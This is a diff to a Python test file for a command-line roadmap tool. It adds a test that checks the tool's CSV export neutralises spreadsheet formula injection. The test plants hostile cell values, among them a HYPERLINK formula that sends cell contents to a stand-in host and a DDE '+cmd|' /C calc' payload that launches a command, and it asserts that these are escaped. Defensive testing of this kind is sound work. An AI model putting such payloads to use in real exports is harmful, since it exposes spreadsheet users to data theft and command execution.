@@ -255,3 +255,32 @@ def test_validate_set_and_fmt_read_a_tab_after_a_key_alike(make_project: MakePro
     code, _, err = run_psc("fmt", "-d", str(folder))
     assert code == 0, err
     assert "    owner: DSI\n" in (folder / "si_roadmap.yaml").read_text(encoding="utf-8")
+
+
+# --- CSV ------------------------------------------------------------------------------------
+
+
+def test_csv_neutralises_formulas(make_project: MakeProject) -> None:
+    import csv
+    import io
+
+    from tests.conftest import ROADMAP
+
+    hostile = ROADMAP.replace("    owner: DSI\n", """    owner: '=HYPERLINK("http://x.test/?"&A1,"clic")'
+    description: "\\t=1+1"
+    tags: ["-2+3", "@SUM(A1:A9)"]
+""").replace("title: Base collections", "title: \"+cmd|' /C calc'!A0\"")
+    folder = make_project({"si_roadmap.yaml": hostile})
+    code, out, err = run_psc("query", "-d", str(folder), "--format", "csv", "--roadmap", "si")
+    assert code == 0, err
+    rows = list(csv.DictReader(io.StringIO(out, newline="")))
+    first = rows[0]
+    assert first["owner"] == """'=HYPERLINK("http://x.test/?"&A1,"clic")"""
+    assert first["title"] == "'+cmd|' /C calc'!A0"
+    assert first["description"] == "'=1+1"
+    assert first["tags"] == "'-2+3;@SUM(A1:A9)"
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
+
+    code, raw, _ = run_psc("query", "-d", str(folder), "--format", "csv", "--roadmap", "si", "--raw-csv")
+    assert code == 0
+    assert list(csv.DictReader(io.StringIO(raw, newline="")))[0]["owner"].startswith("=HYPERLINK(")
